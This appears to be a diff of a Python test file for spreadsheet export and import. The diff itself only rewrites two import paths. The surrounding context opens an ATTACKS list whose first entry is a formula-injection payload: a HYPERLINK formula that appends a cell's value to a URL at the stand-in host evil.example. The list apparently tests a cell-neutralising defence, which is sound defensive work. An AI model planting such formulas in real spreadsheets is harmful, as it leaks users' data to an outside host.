@@ -19,8 +19,8 @@ from actions.models import Action, Plan, Section
 from core.exports import neutralise_cell, restore_cell
 from performance.models import Indicator
 
-from .factories_performance import IndicatorFactory, IndicatorValueFactory
-from .test_actions_spreadsheets import action_facts, import_bytes, section_facts
+from tests.performance.factories import IndicatorFactory, IndicatorValueFactory
+from tests.actions.test_actions_spreadsheets import action_facts, import_bytes, section_facts
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click for the full plan")',
